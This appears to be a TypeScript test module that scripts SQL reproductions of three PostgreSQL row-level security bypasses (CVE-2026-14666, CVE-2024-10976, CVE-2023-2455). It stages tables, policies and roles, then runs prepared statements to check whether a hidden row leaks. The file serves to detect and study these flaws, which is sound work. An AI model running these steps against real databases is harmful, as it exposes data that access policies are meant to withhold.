import { as, back, type Hole, type Names, table } from "./hole.js"

const execute = "execute wk_hole_plan"
const forget = "deallocate wk_hole_plan"

/** Two roles, of whom only the first may see the one row. */
const forOne = (names: Names): string[] => {
  const { schema, one, two } = names
  return [
    ...table(names, "word text"),
    `insert into ${schema}.t values ('hidden')`,
    `grant select on ${schema}.t to ${one}, ${two}`,
    `create policy p on ${schema}.t to ${one} using (true)`,
    `create policy q on ${schema}.t to ${two} using (false)`,
  ]
}

const throughFunction = (names: Names, body: string): string[] => [
  ...forOne(names),
  `create function ${names.schema}.f() returns setof ${names.schema}.t stable language sql as $f$${body}$f$`,
  `grant execute on function ${names.schema}.f() to ${names.one}, ${names.two}`,
  `prepare wk_hole_plan as select 1 from ${names.schema}.f()`,
]

/** Planned for the first role, run by the second one: a row of `wk_hole_plan` is the hole. */
const runByOther = ({ one, two }: Names): string[] => [as(one), execute, back, as(two)]

export const plans: readonly Hole[] = [
  {
    cve: "CVE-2026-14666",
    what: "a prepared statement goes on with the rights of a role after the membership was revoked",
    stage: (names) => [
      ...table(names, "word text"),
      `insert into ${names.schema}.t values ('hidden')`,
      `grant select on ${names.schema}.t to ${names.two}`,
      `create policy p on ${names.schema}.t to ${names.one} using (true)`,
      `grant ${names.one} to ${names.two}`,
      as(names.two),
      `prepare wk_hole_plan as select 1 from ${names.schema}.t`,
    ],
    control: () => execute,
    attack: ({ one, two }) => [back, `revoke ${one} from ${two}`, as(two)],
    open: () => execute,
  },
  {
    cve: "CVE-2024-10976",
    what: "a plan with a subquery in a function is used again for another role, with the first one's policies",
    stage: (names) => throughFunction(names, `with c as (select * from ${names.schema}.t) select * from c`),
    control: ({ schema }) => `select 1 from ${schema}.t`,
    attack: runByOther,
    open: () => execute,
  },
  {
    cve: "CVE-2023-2455",
    what: "a plan with an inlined function is used again for another role, with the first one's policies",
    stage: (names) => throughFunction(names, `select * from ${names.schema}.t`),
    control: ({ schema }) => `select 1 from ${schema}.t`,
    attack: runByOther,
    open: () => execute,
  },
]

/** A prepared statement outlives the rollback. */
export const forgetPlan = forget
